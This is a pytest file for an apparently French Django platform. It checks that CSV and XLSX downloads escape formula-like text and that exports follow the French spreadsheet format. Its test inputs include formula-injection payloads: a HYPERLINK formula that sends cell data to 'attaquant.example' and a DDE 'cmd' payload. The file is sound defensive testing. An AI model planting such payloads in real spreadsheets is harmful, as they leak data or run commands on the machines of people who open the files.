"""Every spreadsheet the platform hands out escapes text a spreadsheet would run as a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from sdsf.accounts.models import Role
from sdsf.core.downloads import safe_cell, table_file, workbook_file
from sdsf.territories.models import Commune
from tests.factories import make_structure, make_user

HYPERLINK = '=HYPERLINK("http://attaquant.example/?v="&A1;"Cliquez")'
MALICIOUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


@pytest.mark.parametrize("value", MALICIOUS)
def test_formula_text_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-3, -2.5, Decimal("-1.5"), date(2025, 1, 1), "-3", "-2,5", "Bobigny", "", None, True]
)
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) is value


def xlsx_values(content: bytes, sheet: int = 0) -> list[tuple]:
    book = load_workbook(io.BytesIO(content))
    return list(book.worksheets[sheet].iter_rows(values_only=True))


def test_table_file_escapes_in_csv_and_xlsx_and_keeps_numbers():
    rows = [[HYPERLINK, -4, Decimal("-1.5")]]
    text = table_file(["=nom", "a", "b"], rows, "csv", sheet="t").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["'=nom", "a", "b"],
        ["'" + HYPERLINK, "-4", "-1,5"],
    ]
    values = xlsx_values(table_file(["=nom", "a", "b"], rows, "xlsx", sheet="t"))
    assert values == [("'=nom", "a", "b"), ("'" + HYPERLINK, -4, -1.5)]


def test_workbook_cells_are_never_formulas():
    content = workbook_file([("s", ["h"], [[v] for v in MALICIOUS])])
    book = load_workbook(io.BytesIO(content))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)


@pytest.mark.django_db
def test_offer_exports_escape_structure_names(client):
    make_structure(name='=HYPERLINK("x")')
    client.force_login(make_user(Role.ANALYST))
    text = client.get(reverse("offer:structures_export")).content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text), delimiter=";")]
    assert '\'=HYPERLINK("x")' in names
    xlsx = client.get(reverse("offer:structures_export"), {"format": "xlsx"}).content
    assert '\'=HYPERLINK("x")' in {cell for row in xlsx_values(xlsx) for cell in row}


@pytest.mark.django_db
def test_command_csv_is_escaped(capsys):
    Commune.objects.filter(code="93008").update(name="=evil()")
    call_command("territories", departement="93")
    assert "'=evil()" in capsys.readouterr().out


def test_a_csv_download_is_in_the_french_spreadsheet_dialect(settings):
    """Decimal comma with ``;``, French dates, local time (Paris), oui/non, empty for None."""
    import datetime
    from decimal import Decimal

    from sdsf.core.downloads import table_file

    settings.TIME_ZONE = "Europe/Paris"
    at = datetime.datetime(2026, 7, 1, 12, 30, tzinfo=datetime.UTC)
    rows = [["Crèche", 20, 2710.52, Decimal("3.50"), datetime.date(2026, 1, 31), at, True, None]]
    header = ["Nom", "Places", "Enfants", "Taux", "Ouverture", "Reçue le", "AVIP", "Fin"]
    text = table_file(header, rows, "csv", sheet="").decode("utf-8-sig")
    assert text.splitlines()[1] == "Crèche;20;2710,52;3,5;31/01/2026;01/07/2026 14:30;oui;"


def test_an_xlsx_download_keeps_types_in_local_time(settings):
    import datetime
    import io

    from openpyxl import load_workbook

    from sdsf.core.downloads import table_file

    settings.TIME_ZONE = "Europe/Paris"
    at = datetime.datetime(2026, 1, 15, 8, 0, tzinfo=datetime.UTC)
    content = table_file(["Reçue le", "Taux"], [[at, 20.5]], "xlsx", sheet="réponses")
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True))
    assert row == (datetime.datetime(2026, 1, 15, 9, 0), 20.5)
